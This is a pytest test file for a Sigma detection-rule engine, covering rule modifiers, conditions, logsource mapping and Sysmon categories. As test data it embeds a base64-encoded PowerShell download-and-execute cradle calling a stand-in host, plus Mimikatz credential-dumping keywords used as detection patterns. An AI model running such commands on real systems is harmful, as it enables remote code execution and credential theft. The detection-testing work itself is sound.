"""Sigma evaluator: a table of rules x events over every value modifier, condition form and logsource,
plus constructs we cannot evaluate, which must be reported at load with the reason."""

from __future__ import annotations

import base64
import uuid
from typing import Any

import pytest
import yaml

from secustream.analyzer.sigma import SigmaEngine, SigmaRuleSet
from secustream.analyzer.sigma import engine as sigma_engine
from secustream.analyzer.sigma.loader import build_ruleset
from secustream.events import SecurityEvent
from secustream.state import MemoryState
from secustream.verdict import RiskLevel

WIN_PROC = {"product": "windows", "category": "process_creation"}
PS_B64 = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16le")).decode()
PS_UTF16BE = base64.b64encode("whoami".encode("utf-16be")).decode()


@pytest.fixture(params=["native", "python"], autouse=True)
def prefilter_loops(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every case twice: through the prefilter's C loops (where built) and through their Python reference."""
    if request.param == "python":
        monkeypatch.setattr(sigma_engine, "gather_event", sigma_engine.gather_event_python)
        monkeypatch.setattr(sigma_engine, "pick_rules", sigma_engine.pick_rules_python)
    elif not sigma_engine.NATIVE_PREFILTER:
        pytest.skip("the C loops are not built here")


def process(cmd: str = "", image: str = "C:\\Windows\\System32\\cmd.exe", **unmapped: Any) -> dict[str, Any]:
    """A Sysmon process_creation event as the windows normaliser produces it."""
    return {"event_type": "process", "action": "process_start", "dataset": "windows.sysmon", "product": "windows",
            "timestamp": "2026-03-02T14:30:00Z",
            "process": {"executable": image, "name": image.rsplit("\\", 1)[-1], "command_line": cmd or None},
            "unmapped": {"EventID": 1, "Image": image, **({"CommandLine": cmd} if cmd else {}), **unmapped}}


def rule_yaml(detection: dict[str, Any], logsource: dict[str, str] | None = None, **extra: Any) -> str:
    return yaml.safe_dump({"title": "case", "name": "case", "id": str(uuid.uuid4()), "status": "test",
                           "logsource": logsource or WIN_PROC, "detection": detection, "level": "high",
                           "tags": ["attack.execution", "attack.t1059.001"], **extra}, sort_keys=False)


def fires(rule: str, event: dict[str, Any]) -> bool:
    ruleset = SigmaRuleSet.from_yaml_text(rule)
    assert not ruleset.errors, ruleset.errors
    ev = SecurityEvent.model_validate(event)
    hits = SigmaEngine(ruleset, MemoryState()).evaluate([ev], [ev.model_dump(mode="json", exclude_none=True)])
    return any(h.rule_id == "sigma:case" for h in hits[0])


def sel(item: dict[str, Any], condition: str = "sel") -> dict[str, Any]:
    return {"sel": item, "condition": condition}


CASES: list[tuple[str, dict[str, Any], dict[str, Any], bool]] = [
    # plain equality is case-insensitive; lists are OR
    ("equals", sel({"Image": "c:\\windows\\system32\\CMD.exe"}), process(), True),
    ("equals-miss", sel({"Image": "cmd.exe"}), process(), False),
    ("list-or", sel({"Image": ["x.exe", "C:\\Windows\\System32\\cmd.exe"]}), process(), True),
    ("number", sel({"EventID": 1}), process(), True),
    ("number-as-string", sel({"EventID": "1"}), process(), True),
    ("bool", sel({"Signed": True}), process(Signed="true"), True),
    # wildcards
    ("wildcard-star", sel({"CommandLine": "*whoami*/all"}), process("cmd /c whoami /all"), True),
    ("wildcard-question", sel({"CommandLine": "who?mi"}), process("whoami"), True),
    ("wildcard-question-miss", sel({"CommandLine": "who?mi"}), process("whoaami"), False),
    ("escaped-star", sel({"CommandLine": "a\\*b"}), process("a*b"), True),
    ("escaped-star-literal", sel({"CommandLine": "a\\*b"}), process("axxb"), False),
    # string modifiers
    ("contains", sel({"CommandLine|contains": "WHOAMI"}), process("cmd /c whoami"), True),
    ("startswith", sel({"CommandLine|startswith": "cmd /c"}), process("cmd /c whoami"), True),
    ("startswith-miss", sel({"CommandLine|startswith": "whoami"}), process("cmd /c whoami"), False),
    ("endswith", sel({"Image|endswith": "\\cmd.exe"}), process(), True),
    ("contains-all", sel({"CommandLine|contains|all": ["net", "user", "/add"]}), process("net user x /add"), True),
    ("contains-all-miss", sel({"CommandLine|contains|all": ["net", "user", "/add"]}), process("net user x"), False),
    ("cased", sel({"CommandLine|cased": "Whoami"}), process("whoami"), False),
    ("cased-hit", sel({"CommandLine|cased|contains": "Whoami"}), process("cmd Whoami"), True),
    ("re", sel({"CommandLine|re": "^cmd\\s+/c\\s+\\w+$"}), process("cmd /c whoami"), True),
    ("re-case-sensitive", sel({"CommandLine|re": "WHOAMI"}), process("whoami"), False),
    ("re-i", sel({"CommandLine|re|i": "WHOAMI"}), process("whoami"), True),
    ("re-m", sel({"CommandLine|re|m": "^b$"}), process("a\nb\nc"), True),
    ("re-s", sel({"CommandLine|re|s": "a.c"}), process("a\nc"), True),
    # a regex's longest literal run feeds the prefilter: it must never hide a match
    ("re-literal-run", sel({"CommandLine|re": "\\w+`(?:\\w+|-|.)`"}), process("IN`V`oke"), True),
    ("re-literal-run-absent", sel({"CommandLine|re": "\\w+`(?:\\w+|-|.)`"}), process("invoke"), False),
    ("re-group-repeat", sel({"CommandLine|re": "\"(?:\\{\\d\\})+\"\\s*-f"}), process('"{0}{1}" -f'), True),
    ("re-i-kelvin-sign", sel({"CommandLine|re|i": "KILL"}), process("\u212aill"), True),
    ("re-i-long-s", sel({"CommandLine|re|i": "TASK"}), process("ta\u017fk"), True),
    ("windash", sel({"CommandLine|windash|contains": " -enc "}), process("powershell /enc AAA"), True),
    ("windash-endash", sel({"CommandLine|windash|contains": " -enc "}), process("powershell \u2013enc AAA"), True),
    ("windash-miss", sel({"CommandLine|windash|contains": " -enc "}), process("powershell enc AAA"), False),
    ("base64", sel({"CommandLine|base64": "whoami"}), process(base64.b64encode(b"whoami").decode()), True),
    ("base64-contains", sel({"CommandLine|base64|contains": "whoami"}),
     process("echo " + base64.b64encode(b"whoami").decode()), True),
    ("base64offset", sel({"CommandLine|base64offset|contains": "http://"}),
     process("x " + base64.b64encode(b"..get http://evil").decode()), True),
    ("wide-base64offset", sel({"CommandLine|wide|base64offset|contains": "DownloadString"}),
     process(f"powershell -enc {PS_B64}"), True),
    ("wide-base64offset-miss", sel({"CommandLine|wide|base64offset|contains": "Invoke-Mimikatz"}),
     process(f"powershell -enc {PS_B64}"), False),
    ("utf16be", sel({"CommandLine|utf16be|base64": "whoami"}), process(PS_UTF16BE), True),
    ("utf16-bom", sel({"CommandLine|utf16|base64": "a"}), process(base64.b64encode(b"\xff\xfea\x00").decode()), True),
    ("cidr", sel({"DestinationIp|cidr": "10.0.0.0/8"}), process(DestinationIp="10.20.30.40"), True),
    ("cidr-miss", sel({"DestinationIp|cidr": ["192.168.0.0/16", "fc00::/7"]}), process(DestinationIp="10.1.1.1"),
     False),
    ("cidr-v6", sel({"DestinationIp|cidr": "fc00::/7"}), process(DestinationIp="fd00::1"), True),
    ("cidr-not-ip", sel({"DestinationIp|cidr": "10.0.0.0/8"}), process(DestinationIp="-"), False),
    ("gt", sel({"DestinationPort|gt": 1024}), process(DestinationPort="4444"), True),
    ("gt-miss", sel({"DestinationPort|gt": 1024}), process(DestinationPort="443"), False),
    ("gte", sel({"DestinationPort|gte": 443}), process(DestinationPort=443), True),
    ("lt", sel({"DestinationPort|lt": 1024}), process(DestinationPort="22"), True),
    ("lte", sel({"DestinationPort|lte": 22}), process(DestinationPort="23"), False),
    ("neq", sel({"User|neq": "SYSTEM"}), process(User="alice"), True),
    ("neq-miss", sel({"User|neq": "SYSTEM"}), process(User="system"), False),
    ("exists", sel({"ParentImage|exists": True}), process(ParentImage="C:\\x.exe"), True),
    ("exists-miss", sel({"ParentImage|exists": True}), process(), False),
    ("exists-false", sel({"ParentImage|exists": False}), process(), True),
    ("null", sel({"ParentImage": None}), process(), True),
    ("null-miss", sel({"ParentImage": None}), process(ParentImage="x"), False),
    ("fieldref", sel({"ParentImage|fieldref": "Image"}), process(ParentImage="C:\\Windows\\System32\\cmd.exe"), True),
    ("fieldref-endswith", sel({"Image|fieldref|endswith": "OriginalFileName"}), process(OriginalFileName="cmd.exe"),
     True),
    ("hour", sel({"UtcTime|hour": 14}), process(UtcTime="2026-03-02 14:30:00.000"), True),
    ("hour-miss", sel({"UtcTime|hour": 3}), process(UtcTime="2026-03-02 14:30:00.000"), False),
    # keywords
    ("keyword", {"keywords": ["mimikatz", "sekurlsa"], "condition": "keywords"}, process("x sekurlsa::pth"), True),
    ("keyword-miss", {"keywords": ["mimikatz"], "condition": "keywords"}, process("whoami"), False),
    ("keyword-wildcard", {"keywords": ["sekurlsa*pth"], "condition": "keywords"}, process("sekurlsa::pth"), True),
    ("keyword-all", {"keywords": {"|all": ["net", "/add"]}, "condition": "keywords"}, process("net user /add"), True),
    # condition forms
    ("and", {"a": {"Image|endswith": "cmd.exe"}, "b": {"CommandLine|contains": "whoami"}, "condition": "a and b"},
     process("whoami"), True),
    ("and-miss", {"a": {"Image|endswith": "cmd.exe"}, "b": {"CommandLine|contains": "net"}, "condition": "a and b"},
     process("whoami"), False),
    ("or", {"a": {"Image|endswith": "x.exe"}, "b": {"CommandLine|contains": "whoami"}, "condition": "a or b"},
     process("whoami"), True),
    ("not", {"a": {"Image|endswith": "cmd.exe"}, "f": {"CommandLine|contains": "whoami"}, "condition": "a and not f"},
     process("whoami"), False),
    ("not-absent-field", {"a": {"Image|endswith": "cmd.exe"}, "f": {"User": "SYSTEM"}, "condition": "a and not f"},
     process("whoami"), True),
    ("parentheses", {"a": {"EventID": 1}, "b": {"CommandLine|contains": "x"}, "c": {"CommandLine|contains": "who"},
                     "condition": "a and (b or c)"}, process("whoami"), True),
    ("precedence", {"a": {"EventID": 2}, "b": {"CommandLine|contains": "x"}, "c": {"CommandLine|contains": "who"},
                    "condition": "a and b or c"}, process("whoami"), True),
    ("1-of", {"sel_a": {"CommandLine|contains": "net"}, "sel_b": {"CommandLine|contains": "who"},
              "condition": "1 of sel_*"}, process("whoami"), True),
    ("all-of", {"sel_a": {"CommandLine|contains": "net"}, "sel_b": {"CommandLine|contains": "who"},
                "condition": "all of sel_*"}, process("whoami"), False),
    ("all-of-hit", {"sel_a": {"CommandLine|contains": "who"}, "sel_b": {"Image|endswith": ".exe"},
                    "condition": "all of sel_*"}, process("whoami"), True),
    ("1-of-them", {"a": {"CommandLine": "nope"}, "b": {"EventID": 1}, "condition": "1 of them"}, process("x"), True),
    ("all-of-them", {"a": {"CommandLine": "nope"}, "b": {"EventID": 1}, "condition": "all of them"}, process("x"),
     False),
    ("not-1-of", {"sel": {"EventID": 1}, "filter_a": {"User": "a"}, "filter_b": {"User": "b"},
                  "condition": "sel and not 1 of filter_*"}, process(User="b"), False),
    ("list-of-maps", {"sel": [{"CommandLine|contains": "net"}, {"Image|endswith": "cmd.exe"}], "condition": "sel"},
     process("whoami"), True),
    ("condition-list", {"a": {"CommandLine": "no"}, "b": {"EventID": 1}, "condition": ["a", "b"]}, process("x"), True),
    # fields reached through aliases (generator events carry no Sysmon names)
    ("alias-image", sel({"Image|endswith": "psexec64.exe"}),
     {"event_type": "process", "action": "process_start", "dataset": "sysmon", "product": "sysmon",
      "process": {"name": "PsExec64.exe", "command_line": "PsExec64.exe \\\\fs01 -s cmd"}}, True),
    ("dotted-path", sel({"source.ip|cidr": "203.0.113.0/24"}),
     {**process(), "source": {"ip": "203.0.113.9"}}, True),
]


@pytest.mark.parametrize(("detection", "event", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_rule_event_table(detection: dict[str, Any], event: dict[str, Any], expected: bool) -> None:
    assert fires(rule_yaml(detection), event) is expected


@pytest.mark.parametrize(("logsource", "event", "expected"), [
    ({"product": "windows", "category": "process_creation"}, process(), True),
    ({"product": "windows"}, process(), True),
    ({"product": "windows", "service": "sysmon"}, process(), True),
    ({"product": "windows", "service": "security"}, process(), False),
    ({"product": "linux", "category": "process_creation"}, process(), False),
    ({"category": "process_access"}, process(), False),
    ({"product": "windows", "service": "security"},
     {**process(), "dataset": "windows.security", "action": "logon", "event_type": "auth"}, True),
    ({"product": "linux", "service": "auth"},
     {**process(), "dataset": "linux.auth", "product": "sudo", "vendor": "linux", "event_type": "auth",
      "action": "sudo"}, True),
    ({"product": "linux", "service": "sudo"},
     {**process(), "dataset": "linux.auth", "product": "sudo", "vendor": "linux", "event_type": "auth",
      "action": "sudo", "unmapped": {"EventID": 1, "program": "sudo"}}, True),
    ({"product": "linux", "service": "auditd"}, {**process(), "dataset": "linux.auditd", "product": "auditd"}, True),
    ({"category": "webserver"}, {"event_type": "http", "dataset": "web.access", "unmapped": {"EventID": 1}}, True),
    ({"category": "proxy"}, {"event_type": "http", "dataset": "proxy", "unmapped": {"EventID": 1}}, True),
])
def test_logsource_matching(logsource: dict[str, str], event: dict[str, Any], expected: bool) -> None:
    assert fires(rule_yaml(sel({"EventID": 1}), logsource), event) is expected


def test_level_and_tags_map_to_severity_mitre_and_threat_type() -> None:
    text = rule_yaml(sel({"EventID": 1}), tags=["attack.lateral-movement", "attack.t1021.002", "attack.t1569.002",
                                                  "car.2013-05-004"])
    ruleset = SigmaRuleSet.from_yaml_text(text.replace("level: high", "level: critical"))
    ev = SecurityEvent.model_validate(process())
    [hit] = SigmaEngine(ruleset, MemoryState()).evaluate([ev])[0]
    assert (hit.severity, hit.mitre, hit.threat_type) == (RiskLevel.CRITICAL, ("T1021.002", "T1569.002"),
                                                            "lateral_movement")


UNSUPPORTED: list[tuple[str, str, str]] = [
    ("expand-placeholder", rule_yaml(sel({"CommandLine|expand": "%admin_tools%"})), "placeholder %admin_tools%"),
    ("unknown-modifier", rule_yaml(sel({"CommandLine|sounds_like": "x"})), "Unknown modifier"),
    ("utf16le-not-in-pysigma", rule_yaml(sel({"CommandLine|utf16le|base64offset|contains": "IEX"})),
     "Unknown modifier 'utf16le'"),
    ("pipe-aggregation", rule_yaml({"sel": {"EventID": 1}, "condition": "sel | count() > 5"}), "pipe syntax"),
    ("dangling-detection", rule_yaml({"sel": {"EventID": 1}, "unused": {"EventID": 2}, "condition": "sel"}),
     "DanglingDetection"),
    ("all-without-contains", rule_yaml(sel({"CommandLine|all": ["a", "b"]})), "AllWithoutContainsModifier"),
    ("python-incompatible-regex", rule_yaml(sel({"CommandLine|re": "(?<name>x)"})), "regular expression"),
]


@pytest.mark.parametrize(("text", "reason"), [u[1:] for u in UNSUPPORTED], ids=[u[0] for u in UNSUPPORTED])
def test_unsupported_constructs_are_reported_at_load(text: str, reason: str) -> None:
    ruleset = SigmaRuleSet.from_yaml_text(text, origin="custom.yml")
    assert ruleset.rules == ()
    assert ruleset.errors, "an unusable rule must be reported, never dropped silently"
    message = " | ".join(str(e) for e in ruleset.errors)
    assert reason.lower() in message.lower() and "custom.yml" in message


BASE = rule_yaml(sel({"EventID": 4625}), {"product": "windows", "service": "security"})


@pytest.mark.parametrize(("correlation", "reason"), [
    ({"type": "value_sum", "rules": ["case"], "group-by": ["IpAddress"], "timespan": "5m",
      "condition": {"gte": 10, "field": "Bytes"}}, "type value_sum"),
    ({"type": "temporal_ordered", "rules": ["case"], "group-by": ["IpAddress"], "timespan": "5m"},
     "type temporal_ordered"),
    ({"type": "event_count", "rules": ["case"], "group-by": ["IpAddress"], "timespan": "5m",
      "condition": {"lt": 3}}, "window closes"),
    ({"type": "event_count", "rules": ["does-not-exist"], "group-by": ["IpAddress"], "timespan": "5m",
      "condition": {"gte": 3}}, "not loaded"),
])
def test_unsupported_correlations_are_reported(correlation: dict[str, Any], reason: str) -> None:
    text = BASE + "---\n" + yaml.safe_dump({"title": "corr", "name": "corr", "correlation": correlation,
                                            "level": "high"})
    ruleset = SigmaRuleSet.from_yaml_text(text)
    assert ruleset.correlations == ()
    assert any(reason in e.reason for e in ruleset.errors), ruleset.errors


def test_unknown_logsource_is_a_warning_and_one_bad_rule_does_not_hide_the_others() -> None:
    text = rule_yaml(sel({"eventName": "ConsoleLogin"}), {"product": "aws", "service": "cloudtrail"}) + "---\n" \
        + rule_yaml(sel({"CommandLine|expand": "%x%"})).replace("name: case", "name: bad")
    ruleset = build_ruleset([("cloud.yml", text), ("broken.yml", "title: [unclosed\n")])
    assert [r.rule_id for r in ruleset.rules] == ["sigma:case"]
    assert any(i.origin == "broken.yml" and "not loadable Sigma YAML" in i.reason for i in ruleset.errors)
    levels = sorted((i.level, i.reason.split(":")[0]) for i in ruleset.issues)
    assert ("warning", "logsource product") in [(lv, r[:17]) for lv, r in levels]
    assert any(i.level == "error" and "placeholder" in i.reason for i in ruleset.issues)


def test_keyword_guards_avoid_two_letter_grams_and_survive_one_character_literals() -> None:
    from secustream.analyzer.sigma.literals import guards

    mimikatz = ["sekurlsa::", "kerberos::golden", "gentilkiwi.com", "eo.oe.kiwi", "mimidrv.sys", "\\mimilib.dll",
                "esx admins"]
    found = guards(mimikatz, 4)
    assert found and all(len(g) > 2 or not g.isalnum() for g in found)  # not "mi": it is in most real text
    assert all(any(g in lit for g in found) for lit in mimikatz)
    assert guards(["|", "kiwi"], 4) == ()  # no guard stands for a one-character literal (no crash either)


def test_keywords_are_found_in_every_string_whether_or_not_a_rule_names_its_field() -> None:
    """The keyword search covers fields other rules constrain (Image here) and fields no rule names, for
    every event of a batch, including a value seen clean before and one seen with a keyword before."""
    keyword = yaml.safe_load(rule_yaml({"keywords": ["sekurlsa::"], "condition": "keywords"},
                                       {"product": "windows"}))
    other = yaml.safe_load(rule_yaml(sel({"Image|endswith": "\\evil.exe"})))
    other["name"], other["title"] = "other", "other"
    ruleset = SigmaRuleSet.from_yaml_text(yaml.safe_dump_all([keyword, other]))
    assert not ruleset.errors, ruleset.errors
    events = [process(image="C:\\tools\\sekurlsa::x.exe"), process(Description="plain"),
              process(Description="run sekurlsa::logonpasswords"), process(Description="plain"),
              process(Description="run sekurlsa::logonpasswords")]
    models = [SecurityEvent.model_validate(e) for e in events]
    hits = SigmaEngine(ruleset, MemoryState()).evaluate(models, [m.model_dump(mode="json", exclude_none=True)
                                                                 for m in models])
    assert [any(h.rule_id == "sigma:case" for h in found) for found in hits] == [True, False, True, False, True]


def test_load_remarks_are_one_log_line_and_rules_that_failed_one_warning_each(caplog: pytest.LogCaptureFixture) -> None:
    """SigmaHQ's core pack has ~600 validator remarks: `secustream up` must not print them one by one."""
    import dataclasses
    import logging

    from secustream.analyzer.sigma.loader import LoadIssue

    ruleset = SigmaRuleSet.from_yaml_text(rule_yaml(sel({"Image|endswith": "\\cmd.exe"})))
    remarks = tuple(LoadIssue(f"r{i}.yml", f"rule {i}", "warning", "validator remark") for i in range(600))
    failed = LoadIssue("bad.yml", "bad rule", "error", "unsupported: placeholder")
    with caplog.at_level(logging.INFO, logger="secustream.analyzer.sigma.engine"):
        SigmaEngine(dataclasses.replace(ruleset, issues=(*remarks, failed)), MemoryState())
    lines = [r for r in caplog.records if r.name == "secustream.analyzer.sigma.engine"]
    assert [r.levelno for r in lines] == [logging.INFO, logging.WARNING, logging.INFO]
    assert "keyword search: " in lines[0].getMessage()  # which literal search this platform runs
    assert "bad rule" in lines[1].getMessage()
    assert "600 validator remarks" in lines[2].getMessage()


@pytest.mark.parametrize(("channel", "event_id", "category"), [
    ("Microsoft-Windows-PowerShell/Operational", 4103, "ps_module"),
    ("Windows PowerShell", 400, "ps_classic_start"),
    ("Windows PowerShell", 600, "ps_classic_provider_start"),
    ("Windows PowerShell", 800, "ps_classic_script"),
    ("Microsoft-Windows-Sysmon/Operational", 9, "raw_access_thread"),
    ("Microsoft-Windows-Sysmon/Operational", 2, "file_change"),
    ("Microsoft-Windows-Sysmon/Operational", 20, "wmi_event"),
    ("Microsoft-Windows-Sysmon/Operational", 255, "sysmon_error"),
])
def test_powershell_module_classic_and_other_sysmon_events_meet_their_sigma_categories(channel: str, event_id: int,
                                                                                        category: str) -> None:
    """SigmaHQ's 46 ps_module / ps_classic_* rules and 10 Sysmon rules could never fire: the Windows normaliser has
    no kind of its own for these events (``windows_event_<id>``), so no category came with them, though the OTRF
    recordings hold ~78,000. A real-shaped line through the real normaliser now meets its category, and only in its
    channel."""
    import json

    from secustream.analyzer.sigma.fields import event_logsource
    from secustream.normalizers import normalize_windows

    def doc(chan: str) -> dict[str, Any]:
        line = json.dumps({"EventID": event_id, "Channel": chan, "Hostname": "WORKSTATION5.theshire.local",
                           "TimeCreated": "2020-09-22T04:11:54Z", "Payload": "CommandInvocation(Get-Item)"})
        return normalize_windows(line).model_dump(mode="json", exclude_none=True)

    assert f"category:{category}" in event_logsource(doc(channel))
    assert f"category:{category}" not in event_logsource(doc("Security"))
    rule = rule_yaml(sel({"Payload|contains": "Get-Item"}), {"product": "windows", "category": category})
    assert fires(rule, doc(channel)) and not fires(rule, doc("Security"))


@pytest.mark.parametrize("event_id", [2, 4, 9, 16, 19, 20, 21, 24, 25, 27, 28, 29, 255])
def test_every_other_sysmon_event_meets_its_own_sigma_category_alone(event_id: int) -> None:
    """The normaliser gives these Sysmon ids actions of their own (``raw_access_read`` …) and some an event type
    (``file``): the category comes from the action, never ``file_event`` from the type; an event an earlier
    ingest wrote as ``windows_event_<id>`` still meets the same category."""
    import json

    from secustream.analyzer.sigma.fields import SYSMON_EVENT_CATEGORIES, event_logsource
    from secustream.normalizers import normalize_windows

    line = json.dumps({"EventID": event_id, "Channel": "Microsoft-Windows-Sysmon/Operational",
                       "Hostname": "DC01.theshire.local", "TimeCreated": "2020-09-22T04:11:54Z",
                       "Image": "C:\\x.exe", "TargetFilename": "C:\\t.exe", "User": "THESHIRE\\pgustavo"})
    doc = normalize_windows(line).model_dump(mode="json", exclude_none=True)
    want = {f"category:{SYSMON_EVENT_CATEGORIES[event_id]}"}
    assert doc["action"] != f"windows_event_{event_id}"
    assert {t for t in event_logsource(doc) if t.startswith("category:")} == want
    older = {**doc, "event_type": "other", "action": f"windows_event_{event_id}"}
    assert {t for t in event_logsource(older) if t.startswith("category:")} == want


def test_a_sysmon_file_deletion_is_no_file_event() -> None:
    """Sigma's ``file_event`` is a file created (Sysmon 11): its rules ("Creation of an Executable by an Executable",
    "Windows Binaries Write Suspicious Extensions", high) fired on 69 Sysmon 23 deletions of the OTRF recordings.
    A deletion meets ``file_delete`` alone; a creation still meets ``file_event``."""
    import json

    from secustream.analyzer.sigma.fields import event_logsource
    from secustream.normalizers import normalize_windows

    def doc(event_id: int) -> dict[str, Any]:
        line = json.dumps({"EventID": event_id, "Channel": "Microsoft-Windows-Sysmon/Operational",
                           "Hostname": "WORKSTATION5.theshire.local", "TimeCreated": "2020-09-22T04:11:54Z",
                           "Image": "C:\\Windows\\System32\\cmd.exe", "TargetFilename": "C:\\Users\\x\\a.exe"})
        return normalize_windows(line).model_dump(mode="json", exclude_none=True)

    assert "category:file_delete" in event_logsource(doc(23)) and "category:file_event" not in event_logsource(doc(23))
    assert "category:file_event" in event_logsource(doc(11))
    rule = rule_yaml(sel({"TargetFilename|endswith": ".exe"}), {"product": "windows", "category": "file_event"})
    assert fires(rule, doc(11)) and not fires(rule, doc(23)) and not fires(rule, doc(26))


@pytest.mark.parametrize("name", ["Image", "CommandLine", "EventID", "Computer", "Flags", "Missing", "Listed",
                                  "source.ip", "action"])
def test_an_event_view_reads_every_field_as_its_resolver_does(name: str) -> None:
    """``EventView`` reads ``unmapped`` itself and calls the resolver only when that lacks the field: the answers
    must stay the resolver's, for present, empty, None, non-string and list values, aliases and dotted paths."""
    from secustream.analyzer.sigma.fields import compile_resolver
    from secustream.analyzer.sigma.matcher import EventView, as_text

    docs: list[dict[str, Any]] = [
        process("whoami /all", Computer="", Flags=0, Listed=["A", None, 2]),
        {**process(), "unmapped": {"Image": "", "CommandLine": None, "EventID": "4688", "Computer": "WS1",
                                   "\x00keywords": "hostile key"}, "source": {"ip": "10.0.0.9"}},
        {"action": "login", "message": "m", "unmapped": {}},
        {"action": "login", "message": "m"},
    ]
    resolve = compile_resolver(name)
    for doc in docs:
        want = resolve(doc)
        view = EventView(doc, {name: resolve})
        assert view.get(name) == want
        low = None if want is None else (
            want.lower() if isinstance(want, str) else
            [as_text(v).lower() for v in want if v is not None] if isinstance(want, list) else as_text(want).lower())
        assert EventView(doc, {name: resolve}).lower(name) == low
        assert view.lower(name) == low


def test_unique_syslog_programs_share_one_logsource_group() -> None:
    """A Linux auth line's program becomes a ``service:`` token, and anyone who can write to syslog picks it
    (``logger -t``). Groups are built per set of tokens some rule names, so a stream of unique programs builds
    one group (each took ~11 ms with the SigmaHQ corpus), and a program a rule names still meets its rules."""
    from secustream.normalizers import normalize_linux_auth

    cron = yaml.safe_load(rule_yaml(sel({"message|contains": "session opened"}), {"product": "linux",
                                                                                  "service": "cron"}))
    auth = yaml.safe_load(rule_yaml(sel({"message|contains": "session opened"}), {"product": "linux",
                                                                                  "service": "auth"}))
    auth["name"], auth["title"], auth["id"] = "auth", "auth", str(uuid.uuid4())
    ruleset = SigmaRuleSet.from_yaml_text(yaml.safe_dump_all([cron, auth]))
    assert not ruleset.errors, ruleset.errors
    engine = SigmaEngine(ruleset, MemoryState())
    programs = [f"prog{uuid.uuid4().hex[:8]}" for _ in range(50)] + ["cron"]
    events = [normalize_linux_auth(f"Dec  7 06:00:00 host1 {p}[12]: session opened for user root by (uid=0)")
              for p in programs]
    hits = engine.evaluate(events, [e.model_dump(mode="json", exclude_none=True) for e in events])
    assert [sorted(h.rule_id for h in found) for found in hits] == [["sigma:auth"]] * 50 + [["sigma:auth",
                                                                                            "sigma:case"]]
    groups = {id(group) for group in engine._index._by_logsource.values()}
    assert len(groups) == 2  # the unique programs' one, and cron's


def test_attack_v18_tactics_and_what_is_not_a_tactic() -> None:
    """ATT&CK v18 split Defense Evasion into Stealth and Defense Impairment, and SigmaHQ's rules carry them (1,083 and
    413 tags). A rule tagged only so is a malicious process, as a defense-evasion one was; software, group and data
    source tags (attack.s0002, attack.g0032, attack.ds0005) are no tactics (the coverage table listed them as such)."""
    from secustream.analyzer.sigma.mapping import tactics, threat_type
    from secustream.analyzer.sigma.report import coverage
    from secustream.attack import tactic_tags

    tags = ["attack.stealth", "attack.t1036.005", "attack.s0002", "attack.g0032", "attack.ds0005",
            "attack.defense-impairment", "attack.credential_access"]
    assert tactic_tags(tags) == ["stealth", "defense-impairment", "credential-access"]
    assert tactics(tags) == {"stealth", "defense_impairment", "credential_access"}
    assert threat_type(["attack.stealth", "attack.t1036.005"]) == threat_type(["attack.defense-evasion"])
    assert threat_type(["attack.defense-impairment"]).value == "malicious_process"
    text = rule_yaml(sel({"EventID": 1}), tags=tags)
    ruleset = SigmaRuleSet.from_yaml_text(text)
    assert sorted(coverage(ruleset.rules)) == ["credential_access", "defense_impairment", "stealth"]
